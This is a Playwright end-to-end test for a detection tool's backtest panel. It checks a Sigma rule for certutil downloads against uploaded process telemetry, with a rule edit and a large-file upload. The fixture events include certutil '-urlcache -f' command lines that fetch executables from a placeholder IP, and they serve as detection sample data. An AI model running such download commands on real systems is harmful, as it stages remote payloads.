import { execFileSync } from 'node:child_process';
import { join, resolve } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { chromiumAvailable, describeWhen, launchChromium, sigmaRuleYaml, waitFor } from '@huntforge/test-kit';
import { startTestAllInOne, type TestAllInOne } from '../test-support/all-in-one';

const repoRoot = resolve(__dirname, '..', '..', '..', '..');
const rule = sigmaRuleYaml({ id: '7e1f0c2a-0000-4000-8000-0000000000b7', title: 'Backtested certutil download', author: 'Backtest Test' });
// Flat process events: events 1 and 3 download with certutil, event 2 only dumps.
const events = [
  { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c whoami' },
  { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -urlcache -f http://203.0.113.9/a.exe a.exe' },
  { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -dump' },
  { Image: 'C:\\Tools\\certutil.exe', CommandLine: 'certutil -urlcache -split -f http://203.0.113.9/b b' },
]
  .map((event) => JSON.stringify(event))
  .join('\n');

describeWhen(chromiumAvailable(), 'the backtest panel needs Chromium (bash tools/ci/install-chromium.sh)')(
  'backtests on the review page in Chromium',
  () => {
    let service: TestAllInOne;
    let browser: Browser;
    let page: Page;

    beforeAll(async () => {
      execFileSync(process.execPath, [join(repoRoot, 'tools', 'web', 'build.mjs'), '--quiet'], { stdio: 'inherit' });
      service = await startTestAllInOne();
      const response = await fetch(`${service.handle.url}/api/sigma-queue`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ rule_yaml: rule }),
      });
      expect(response.status).toBe(201);
      browser = await launchChromium();
      page = await (await browser.newContext({ viewport: { width: 1280, height: 900 } })).newPage();
      await page.goto(`${service.handle.url}/workflow#queue`);
      await page.waitForLoadState('networkidle');
    }, 240_000);

    afterAll(async () => {
      await browser?.close();
      await service?.stop();
    });

    it('uploads telemetry, runs the backtest beside the self-test, and runs it again after an edit', async () => {
      const panel = page.getByTestId('backtest');
      await panel.waitFor({ timeout: 20_000 });
      await panel
        .getByLabel('upload telemetry')
        .setInputFiles({ name: 'process.jsonl', mimeType: 'application/json', buffer: Buffer.from(events) });
      // The uploaded dataset is listed, with what the reader found, and chosen.
      await waitFor(
        'the dataset to be listed',
        async () => (await panel.textContent())?.includes('process.jsonl (jsonl, 4 events)') ?? false,
        20_000,
      );
      expect(await panel.getByRole('checkbox').isChecked()).toBe(true);

      await panel.getByRole('button', { name: 'Run backtest' }).click();
      const results = panel.getByTestId('backtest-results');
      await results.waitFor({ timeout: 20_000 });
      expect(await results.textContent()).toContain('process.jsonl: matches 2 of 4 events');
      expect(await results.textContent()).toContain('event 1');

      // An edit that narrows the rule to -dump: the backtest runs again on its own.
      const editor = page.getByTestId('rule-review').locator('.cm-content');
      const original = (await editor.innerText()).replace(/\u00a0/g, ' ');
      await editor.click();
      await page.keyboard.press('Control+A');
      await page.keyboard.insertText(
        original.replace(/CommandLine\|contains:[\s\S]*?condition:/, "CommandLine|contains: '-dump'\n  condition:"),
      );
      await page.getByRole('button', { name: 'Save edit' }).click();
      await waitFor(
        'the backtest to run again on the edited rule',
        async () => (await results.textContent())?.includes('process.jsonl: matches 1 of 4 events') ?? false,
        20_000,
      );
      expect(await results.textContent()).toContain('event 2');
    });

    it('uploads a file larger than the JSON body limit: the file itself is the body', async () => {
      const panel = page.getByTestId('backtest');
      // About 1.5 MB (BODY_LIMIT is 1 MB by default): 12,000 copies of the four events.
      const large = Array.from({ length: 3_000 }, () => events).join('\n');
      expect(large.length).toBeGreaterThan(1_048_576);
      await panel
        .getByLabel('upload telemetry')
        .setInputFiles({ name: 'large.jsonl', mimeType: 'application/json', buffer: Buffer.from(large) });
      await waitFor(
        'the large dataset to be listed',
        async () => (await panel.textContent())?.includes('large.jsonl (jsonl, 12000 events)') ?? false,
        60_000,
      );
    });
  },
);
